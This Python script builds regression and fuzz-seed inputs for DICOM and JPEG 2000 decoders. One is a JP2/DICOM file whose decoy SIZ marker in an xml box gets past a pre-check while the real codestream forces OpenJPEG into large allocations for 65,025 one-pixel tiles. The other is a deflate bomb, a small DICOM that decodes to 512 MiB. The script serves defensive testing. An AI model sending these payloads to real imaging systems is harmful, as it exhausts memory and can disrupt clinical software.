"""Builds the inputs that made the frame decoders spend far more memory than a frame is worth, so
that tests and fuzz seeds can be made from them without keeping large files in the repository.

- j2k_decoy_codestream / j2k_decoy_dicom: a JP2 file whose `xml ` box, before `jp2c`, holds a
  harmless SIZ marker segment (one 255x255 tile), while the codestream in `jp2c` declares 65,025
  tiles of one pixel and three components. A check that looks for the first FF4F FF51 sees the decoy; OpenJPEG
  allocates for the real one.
- deflated_bomb_dicom: a valid Deflated Explicit VR Little Endian file of half a megabyte holding
  one 16384x16384 16-bit frame of zeros (512 MiB decoded).

Run as a script to write them:  python3 decoder_attacks.py OUT_DIR
"""
import struct
import sys
import zlib

TS_J2K = "1.2.840.10008.1.2.4.91"
TS_DEFLATED = "1.2.840.10008.1.2.1.99"
TS_EXPLICIT = "1.2.840.10008.1.2.1"


def box(kind, payload):
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def siz(width, height, tile_w, tile_h, components=1, bits=8):
    body = struct.pack(">HIIIIIIIIH", 0, width, height, 0, 0, tile_w, tile_h, 0, 0, components)
    body += bytes([bits - 1, 1, 1]) * components
    return b"\xff\x51" + struct.pack(">H", 2 + len(body)) + body


def main_header(width, height, tile_w, tile_h, components=1):
    cod = b"\xff\x52" + struct.pack(">HBBHBBBBBB", 12, 0, 0, 1, 0, 0, 4, 4, 0, 1)
    qcd = b"\xff\x5c" + struct.pack(">HBB", 4, 0x40, 0x40)
    return b"\xff\x4f" + siz(width, height, tile_w, tile_h, components) + cod + qcd


def j2k_decoy_codestream(width=255, height=255):
    """The JP2 file: a decoy SIZ in an xml box, then 1x1 tiles over width x height."""
    real = main_header(width, height, 1, 1, 3)
    # One empty tile-part, then the end of the codestream.
    real += b"\xff\x90" + struct.pack(">HHIBB", 10, 0, 14, 0, 1) + b"\xff\x93" + b"\xff\xd9"
    decoy = main_header(width, height, width, height)
    ihdr = box(b"ihdr", struct.pack(">IIHBBBB", height, width, 1, 7, 7, 0, 0))
    colr = box(b"colr", struct.pack(">BBBI", 1, 0, 0, 17))
    return (box(b"jP  ", b"\r\n\x87\n") + box(b"ftyp", b"jp2 \0\0\0\0jp2 ") +
            box(b"jp2h", ihdr + colr) + box(b"xml ", decoy) + box(b"jp2c", real))


def element(group, elem, vr, value):
    if isinstance(value, str):
        value = value.encode()
        if len(value) % 2:
            value += b"\0" if vr == "UI" else b" "
    head = struct.pack("<HH", group, elem) + vr.encode()
    if vr in ("OB", "OW", "SQ", "UN", "UT"):
        return head + b"\0\0" + struct.pack("<I", len(value)) + value
    return head + struct.pack("<H", len(value)) + value


def us(v):
    return struct.pack("<H", v)


def part10(ts, dataset, uid):
    meta = (element(2, 1, "OB", b"\0\1") + element(2, 2, "UI", "1.2.840.10008.5.1.4.1.1.7") +
            element(2, 3, "UI", uid) + element(2, 0x10, "UI", ts))
    return (b"\0" * 128 + b"DICM" + element(2, 0, "UL", struct.pack("<I", len(meta))) + meta +
            dataset)


def image_header(uid, rows, cols, bits, spp=1):
    return (element(8, 0x16, "UI", "1.2.840.10008.5.1.4.1.1.7") + element(8, 0x18, "UI", uid) +
            element(0x10, 0x20, "LO", "ATTACK") + element(0x20, 0xD, "UI", uid + ".1") +
            element(0x20, 0xE, "UI", uid + ".2") + element(0x28, 2, "US", us(spp)) +
            element(0x28, 4, "CS", "MONOCHROME2" if spp == 1 else "RGB") +
            element(0x28, 0x10, "US", us(rows)) + element(0x28, 0x11, "US", us(cols)) +
            element(0x28, 0x100, "US", us(bits)) + element(0x28, 0x101, "US", us(bits)) +
            element(0x28, 0x102, "US", us(bits - 1)) + element(0x28, 0x103, "US", us(0)))


def j2k_decoy_dicom(uid="1.2.826.0.1.3680043.8.498.9001"):
    frame = j2k_decoy_codestream()
    if len(frame) % 2:
        frame += b"\0"
    items = (struct.pack("<HHI", 0xFFFE, 0xE000, 0) + struct.pack("<HHI", 0xFFFE, 0xE000, len(frame))
             + frame + struct.pack("<HHI", 0xFFFE, 0xE0DD, 0))
    px = struct.pack("<HH", 0x7FE0, 0x10) + b"OB\0\0" + struct.pack("<I", 0xFFFFFFFF) + items
    return part10(TS_J2K, image_header(uid, 255, 255, 8) + px, uid)


def native_dicom(ts, uid, rows, cols, bits, spp=1):
    """A native image of zeros; deflated (streamed, so the plain dataset is never in memory)
    when ts is the deflated syntax."""
    size = rows * cols * spp * (bits // 8)
    head = image_header(uid, rows, cols, bits, spp) + struct.pack("<HH", 0x7FE0, 0x10) + \
        (b"OW" if bits == 16 else b"OB") + b"\0\0" + struct.pack("<I", size)
    if ts != TS_DEFLATED:
        return part10(ts, head + b"\0" * size, uid)
    z = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = [z.compress(head)]
    chunk = b"\0" * (1 << 20)
    left = size
    while left:
        n = min(left, len(chunk))
        out.append(z.compress(chunk[:n]))
        left -= n
    out.append(z.flush())
    return part10(ts, b"".join(out), uid)


def deflated_bomb_dicom(uid="1.2.826.0.1.3680043.8.498.9002", side=16384):
    return native_dicom(TS_DEFLATED, uid, side, side, 16)


if __name__ == "__main__":
    out = sys.argv[1]
    with open(f"{out}/j2k_decoy.dcm", "wb") as f:
        f.write(j2k_decoy_dicom())
    with open(f"{out}/j2k_decoy.jp2", "wb") as f:
        f.write(j2k_decoy_codestream())
    with open(f"{out}/deflated_bomb.dcm", "wb") as f:
        f.write(deflated_bomb_dicom())
